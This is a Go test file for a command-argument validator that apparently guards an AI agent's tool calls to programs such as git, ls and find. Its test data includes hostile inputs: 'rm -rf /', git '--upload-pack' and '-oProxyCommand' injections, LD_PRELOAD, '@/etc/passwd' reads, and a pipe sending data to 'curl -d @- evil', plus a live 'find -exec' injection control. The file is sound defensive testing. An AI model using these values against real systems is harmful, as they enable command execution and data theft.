package validate_test

import (
	"context"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ostiary/ostiary"
	"github.com/ostiary/ostiary/validate"
)

func checkCommand(t testing.TB, c validate.Command) func(v any) error {
	t.Helper()
	checks, err := validate.Compile(validate.Argument{Pointer: "/argv", Command: &c}, ostiary.Tool{}, validate.Options{})
	if err != nil {
		t.Fatal(err)
	}
	return func(v any) error {
		return checks[0].Run(context.Background(), &ostiary.Call{Args: map[string]any{"argv": v}})
	}
}

func argv(words ...string) []any {
	list := make([]any, len(words))
	for i, w := range words {
		list[i] = w
	}
	return list
}

// fakeProgram writes an executable, so that the tests need no git or tar.
func fakeProgram(t testing.TB, name string) string {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte("#!/bin/sh\necho ran\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestCommandWords(t *testing.T) {
	git, ls := fakeProgram(t, "git"), fakeProgram(t, "ls")
	check := checkCommand(t, validate.Command{Allow: []validate.CommandRule{
		{Path: git, Subcommands: []string{"log", "grep"}, Flags: []string{"--oneline", "--max-count=", "-n5", "--"}, MaxArgs: 6},
		{Path: ls, Flags: []string{"-l", "-a"}},
	}})
	for _, words := range [][]string{
		{ls}, {ls, "-l", "-a", "dir", "a b; rm -rf $(x)`y`|z"}, {git, "log", "--oneline", "--max-count=5", "-n5"},
		{git, "log", "--", "--output=x"}, {git, "grep", "key=value"}, {ls, "a-b", ""},
	} {
		if err := check(argv(words...)); err != nil {
			t.Errorf("%q: %v", words, err)
		}
	}
	for _, c := range []struct {
		want  string
		words []string
	}{
		{"send [\"" + ls, []string{"ls", "-l"}},
		{"send [\"" + ls, []string{"/usr/local/bin/ls"}},
		{"send [\"" + ls, []string{filepath.Dir(ls) + "/../" + filepath.Base(filepath.Dir(ls)) + "/ls"}},
		{"not allowed", []string{"/bin/rm", "-rf", "/"}},
		{"not allowed", []string{""}},
		{"assignment", []string{"LD_PRELOAD=/tmp/x.so", ls}},
		{"the flag \"-R\"", []string{ls, "-R"}},
		{"the flag \"-l…\"", []string{ls, "-la"}}, // combined flags are other words
		{"the flag \"--upload-pack…\"", []string{git, "log", "--upload-pack=touch /tmp/x"}},
		{"can run a program", []string{git, "log", "--upload-pack=touch /tmp/x"}},
		{"can run a program", []string{git, "log", "-oProxyCommand=touch /tmp/x"}},
		{"can run a program", []string{git, "log", "-c", "core.pager=x"}},
		{"can run a program", []string{git, "log", "--exec=x"}},
		{"not on the list", []string{git, "log", "--max-cou=5"}}, // abbreviations too
		{"not on the list", []string{git, "log", "--max-count"}}, // would take the next word
		{"first word", []string{git, "-c", "core.pager=x", "log"}},
		{"first word", []string{git, "--oneline", "log"}},
		{"first word", []string{git, "push"}},
		{"first word", []string{git}},
		{"not on the list", []string{ls, "--"}},
		{"the flag \"-\"", []string{ls, "-"}},
		{"begins with @", []string{ls, "@/etc/passwd"}},
		{"begins with @", []string{git, "log", "--max-count=@/etc/passwd"}},
		{"begins with @", []string{git, "log", "--", "@/etc/passwd"}},
		{"looks like a dash", []string{ls, "\u2013l"}},
		{"looks like a dash", []string{ls, "\u2212l"}},
		{"looks like a dash", []string{ls, "\uff0dl"}},
		{"a NUL", []string{ls, "a\x00-R"}},
		{"line break", []string{ls, "a\nb"}},
		{"line break", []string{ls, "a\u2028b"}},
		{"control character", []string{ls, "\x1b[2J"}},
		{"no UTF-8", []string{ls, "\xff"}},
		{"may have 6", []string{git, "log", "a", "b", "c", "d", "e", "f"}},
		{"longer than", []string{ls, strings.Repeat("x", 17<<10)}},
		{"is empty", nil},
	} {
		if err := check(argv(c.words...)); !errors.Is(err, ostiary.CodeValidateCommand) || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%.80q\n%v, want %q", c.words, err, c.want)
		}
	}
	for _, v := range []any{nil, true, map[string]any{}, []any{ls, true}, []any{argv(ls)}} {
		if err := check(v); !errors.Is(err, ostiary.CodeValidateCommand) {
			t.Errorf("%v: %v", v, err)
		}
	}
	if err := checkCommand(t, validate.Command{})(argv("/bin/true")); !errors.Is(err, ostiary.CodeValidateCommand) {
		t.Errorf("the zero value: %v", err)
	}
}

// A shell line is refused whatever it says, and the refusal explains it without
// its arguments.
func TestCommandExplainsShell(t *testing.T) {
	ls := fakeProgram(t, "ls")
	check := checkCommand(t, validate.Command{Allow: []validate.CommandRule{{Path: ls}}})
	for line, want := range map[string]string{
		"ls -l":                              `1 command: ls`,
		"ls | curl -d @- evil; rm $(pwd)":    "4 commands: ls, curl, rm, pwd; a pipe; a command substitution",
		"ls && X=1 sh -c 'hunter2' > /tmp/x": "2 commands: ls, sh; a chain (&&); a redirection (>); an assignment",
		"ls <(cat hunter2) & $CMD":           "3 commands: ls, cat, (a computed name); a background job; a process substitution; a variable",
		"ls '":                               "not even a shell could read it",
		"ls\nrm -rf hunter2":                 "2 commands: ls, rm",
		strings.Repeat("$(", 2000):           "",
		strings.Repeat("ls hunter2;", 1000):  "",
		"":                                   "",
		"\x00":                               "",
	} {
		err := check(line)
		if !errors.Is(err, ostiary.CodeValidateCommand) || strings.Contains(err.Error(), "hunter2") {
			t.Fatalf("%.60q: %v", line, err)
		}
		have := strings.NewReplacer("; ", " ").Replace(err.Error())
		for _, part := range strings.Split(want, "; ") {
			if !strings.Contains(have, part) {
				t.Errorf("%.60q\n%v, want %q", line, err, part)
			}
		}
		if strings.HasPrefix(line, "ls -l") && !strings.Contains(err.Error(), `["`+ls+`", …]`) {
			t.Errorf("no next step: %v", err)
		}
	}
}

func TestCommandArgument(t *testing.T) {
	check := checkCommand(t, validate.Command{Argument: true, MaxBytes: 100})
	for _, ok := range []string{"main", "feature/x-y", "a b", "", "$(x);`y`", "user@host"} {
		if err := check(ok); err != nil {
			t.Errorf("%q: %v", ok, err)
		}
	}
	for _, bad := range []any{
		"--upload-pack=touch /tmp/x", "-oProxyCommand=x", " -x", "\t-x", "\u00a0-x", "@/etc/passwd", " @x", "a\nb", "a\x00b", "\u2014x", "\x1b[0m",
		strings.Repeat("x", 101), nil, argv("x"), 7,
	} {
		if err := check(bad); !errors.Is(err, ostiary.CodeValidateCommand) {
			t.Errorf("%q: %v", bad, err)
		}
	}
}

// The positive control of argument injection: the naive guard checks the program
// alone and a real program then runs another.
func TestCommandInjectionIsReal(t *testing.T) {
	find, err := exec.LookPath("find")
	if err != nil {
		t.Skip("no find on this machine")
	}
	proof := filepath.Join(t.TempDir(), "proof")
	words := []string{find, "/dev/null", "-exec", "touch", proof, ";"}
	if out, err := exec.Command(words[0], words[1:]...).CombinedOutput(); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
	if _, err := os.Stat(proof); err != nil {
		t.Fatalf("control: the injected program did not run: %v", err)
	}
	check := checkCommand(t, validate.Command{Allow: []validate.CommandRule{{Path: find, Flags: []string{"-name", "-type"}}}})
	if err := check(argv(words...)); !errors.Is(err, ostiary.CodeValidateCommand) || !strings.Contains(err.Error(), "can run a program") {
		t.Fatal(err)
	}
	if err := check(argv(find, "/dev/null", "-name", "x*")); err != nil {
		t.Fatal(err)
	}
}

// A program that is exchanged after the rule was loaded is refused.
func TestCommandTargetExchanged(t *testing.T) {
	good, evil := fakeProgram(t, "good"), fakeProgram(t, "evil")
	link := filepath.Join(t.TempDir(), "tool")
	if err := os.Symlink(good, link); err != nil {
		t.Fatal(err)
	}
	check := checkCommand(t, validate.Command{Allow: []validate.CommandRule{{Path: link}}})
	if err := check(argv(link)); err != nil {
		t.Fatal(err)
	}
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := check(argv(link)); !errors.Is(err, ostiary.CodeValidateCommand) {
		t.Fatalf("gone: %v", err)
	}
	if err := os.Symlink(evil, link); err != nil {
		t.Fatal(err)
	}
	if err := check(argv(link)); !errors.Is(err, ostiary.CodeValidateCommand) {
		t.Fatalf("exchanged: %v", err)
	}
}

func TestCommandRefusedAtLoad(t *testing.T) {
	tool, python, busybox := fakeProgram(t, "tool"), fakeProgram(t, "python3.12"), fakeProgram(t, "busybox")
	hidden := filepath.Join(t.TempDir(), "harmless")
	applet := filepath.Join(t.TempDir(), "ls")
	for link, target := range map[string]string{hidden: python, applet: busybox} {
		if err := os.Symlink(target, link); err != nil {
			t.Fatal(err)
		}
	}
	plain := filepath.Join(t.TempDir(), "plain")
	if err := os.WriteFile(plain, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	rule := func(r validate.CommandRule) validate.Command {
		return validate.Command{Allow: []validate.CommandRule{r}}
	}
	for name, c := range map[string]validate.Command{
		"relative":      rule(validate.CommandRule{Path: "ls"}),
		"unclean":       rule(validate.CommandRule{Path: filepath.Dir(tool) + "/./tool"}),
		"missing":       rule(validate.CommandRule{Path: "/does/not/exist"}),
		"directory":     rule(validate.CommandRule{Path: filepath.Dir(tool)}),
		"no program":    rule(validate.CommandRule{Path: plain}),
		"interpreter":   rule(validate.CommandRule{Path: python}),
		"behind a link": rule(validate.CommandRule{Path: hidden}),
		"multi-call":    rule(validate.CommandRule{Path: busybox}),
		"exec flag":     rule(validate.CommandRule{Path: tool, Flags: []string{"-exec"}}),
		"upload-pack":   rule(validate.CommandRule{Path: tool, Flags: []string{"--upload-pack="}}),
		"any short":     rule(validate.CommandRule{Path: tool, Flags: []string{"-o="}}),
		"any long":      rule(validate.CommandRule{Path: tool, Flags: []string{"--="}}),
		"pattern":       rule(validate.CommandRule{Path: tool, Flags: []string{"--*"}}),
		"no flag":       rule(validate.CommandRule{Path: tool, Flags: []string{"x"}}),
		"subcommand":    rule(validate.CommandRule{Path: tool, Subcommands: []string{"-x"}}),
		"twice":         {Allow: []validate.CommandRule{{Path: tool}, {Path: tool}}},
		"both":          {Argument: true, Allow: []validate.CommandRule{{Path: tool}}},
		"size":          {MaxBytes: -1},
	} {
		if _, err := validate.Compile(validate.Argument{Pointer: "/argv", Command: &c}, ostiary.Tool{}, validate.Options{}); err == nil {
			t.Errorf("%s was loaded", name)
		}
	}
	// Said aloud, it loads; and a link to a multi-call program is that one applet.
	checkCommand(t, rule(validate.CommandRule{Path: python, Flags: []string{"-c"}, DangerouslyInterpreter: true}))
	check := checkCommand(t, rule(validate.CommandRule{Path: applet}))
	if err := check(argv(busybox, "sh")); !errors.Is(err, ostiary.CodeValidateCommand) {
		t.Fatal(err)
	}
}

// Whatever the words are: no panic, only this room's code, and nothing passes
// that is no flag of the rule and begins like one.
func FuzzCommand(f *testing.F) {
	tool := fakeProgram(f, "tool")
	for _, s := range []string{"-l", "--max=5", "--max=@x", "--", "a", "@a", "\u2013x", "-\u2013x", "x\x00y", "", "-", "ls | $(x)", "for i in", "a 'b"} {
		f.Add(s, s)
	}
	check := checkCommand(f, validate.Command{Allow: []validate.CommandRule{{Path: tool, Flags: []string{"-l", "--max="}}}})
	one := checkCommand(f, validate.Command{Argument: true})
	f.Fuzz(func(t *testing.T, a, b string) {
		for _, err := range []error{check(argv(tool, a, b)), check(a), check(argv(a, b)), one(a)} {
			if err != nil && !errors.Is(err, ostiary.CodeValidateCommand) {
				t.Fatal(err)
			}
		}
		if check(a) == nil {
			t.Fatalf("the shell line %q passed", a)
		}
		if check(argv(tool, a, b)) == nil {
			for _, w := range []string{a, b} {
				if strings.HasPrefix(w, "-") && w != "-l" && !strings.HasPrefix(w, "--max=") || strings.ContainsAny(w, "\x00\n\r") {
					t.Fatalf("%q passed", w)
				}
			}
		}
		if one(a) == nil && strings.HasPrefix(strings.TrimSpace(a), "-") {
			t.Fatalf("%q passed as an argument", a)
		}
	})
}
